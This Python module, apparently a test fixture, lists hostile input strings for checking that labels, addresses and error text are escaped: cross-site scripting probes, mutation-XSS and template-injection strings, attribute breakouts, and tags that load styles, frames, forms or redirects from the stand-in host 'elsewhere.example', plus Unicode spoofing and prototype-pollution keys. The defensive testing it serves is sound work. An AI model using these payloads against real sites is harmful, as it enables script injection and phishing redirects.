"""Texts that want to be more than text: what a label, an address or a failure may hold when somebody means harm.

Each would open a dialog, load something from elsewhere, leave its place or hide what it is, if it were ever read as
markup, as a script, as a style or as an address.
"""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "elsewhere.example"

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=//{ELSEWHERE}/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src=//{ELSEWHERE}/></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/a.css>",
    f"<style>@import '//{ELSEWHERE}/a.css';</style>",
    f"<style>*{{background:url(//{ELSEWHERE}/b)}}</style>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<form action=//{ELSEWHERE}/><button>Sign in</button></form>",
    f"<object data=//{ELSEWHERE}/x></object>",
    "<embed src=javascript:alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus='alert(1)' autofocus='",
    "`-alert(1)-`",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "\u202egpj.exe\u202c admin",
    "ada\u200b@example.com",
    "\u0000\u0007\u001b[31mred\u001b[0m",
    "constructor",
    "__proto__",
    "A" * 4000,
    "\u0301" * 200 + "zalgo",
)
